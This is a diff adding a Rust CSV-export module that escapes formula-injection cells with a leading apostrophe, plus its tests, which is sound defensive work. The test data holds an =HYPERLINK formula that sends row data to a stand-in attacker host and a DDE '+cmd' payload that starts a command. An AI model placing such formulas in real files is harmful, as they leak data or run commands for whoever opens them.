@@ -1,0 +1,66 @@
+//! CSV files for spreadsheets, one writer for every export. Vendor strings
+//! go into these files, and a spreadsheet runs a cell that starts with `=`,
+//! `+`, `-`, `@`, a tab or a carriage return as a formula
+//! (`=HYPERLINK(...)` phoning home with the row): such a cell gets a leading
+//! apostrophe, which spreadsheets show as text (OWASP's advice). Plain
+//! numbers, negative ones included, stay numbers.
+
+use std::borrow::Cow;
+
+/// The cell as a spreadsheet will show it, never run it.
+pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
+    let risky = matches!(cell.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
+    if risky && !is_plain_number(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+fn is_plain_number(cell: &str) -> bool {
+    cell.len() > 1 && cell.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'-' | b'+' | b'.')) && cell.parse::<f64>().is_ok()
+}
+
+/// A header row and data rows as CSV (RFC 4180 quoting), every cell made
+/// spreadsheet-safe.
+pub fn to_csv<H, R, C>(header: H, rows: R) -> Result<String, String>
+where
+    H: IntoIterator,
+    H::Item: AsRef<str>,
+    R: IntoIterator<Item = C>,
+    C: IntoIterator,
+    C::Item: AsRef<str>,
+{
+    let mut w = csv::Writer::from_writer(Vec::new());
+    w.write_record(header.into_iter().map(|h| spreadsheet_safe(h.as_ref()).into_owned())).map_err(|e| e.to_string())?;
+    for row in rows {
+        w.write_record(row.into_iter().map(|c| spreadsheet_safe(c.as_ref()).into_owned())).map_err(|e| e.to_string())?;
+    }
+    String::from_utf8(w.into_inner().map_err(|e| e.to_string())?).map_err(|e| e.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_become_text() {
+        for formula in ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "=", "-"] {
+            let safe = spreadsheet_safe(formula);
+            assert_eq!(safe, format!("'{formula}"), "{formula:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_text_and_numbers_stay_as_they_are() {
+        for cell in ["Kangoo Lyon", "AB-123-CD", "", "'quoted", "12", "-12", "-0.5", "+33", "2026-06-02T18:36:51+00:00", "a=b"] {
+            assert_eq!(spreadsheet_safe(cell), cell, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn every_cell_of_a_file_is_neutralised_and_quoted() {
+        let csv = to_csv(["Plate", "Name"], [["=1+1", "Kangoo, \"Lyon\""], ["-3", "@x"]]).expect("csv");
+        assert_eq!(csv, "Plate,Name\n'=1+1,\"Kangoo, \"\"Lyon\"\"\"\n-3,'@x\n");
+    }
+}
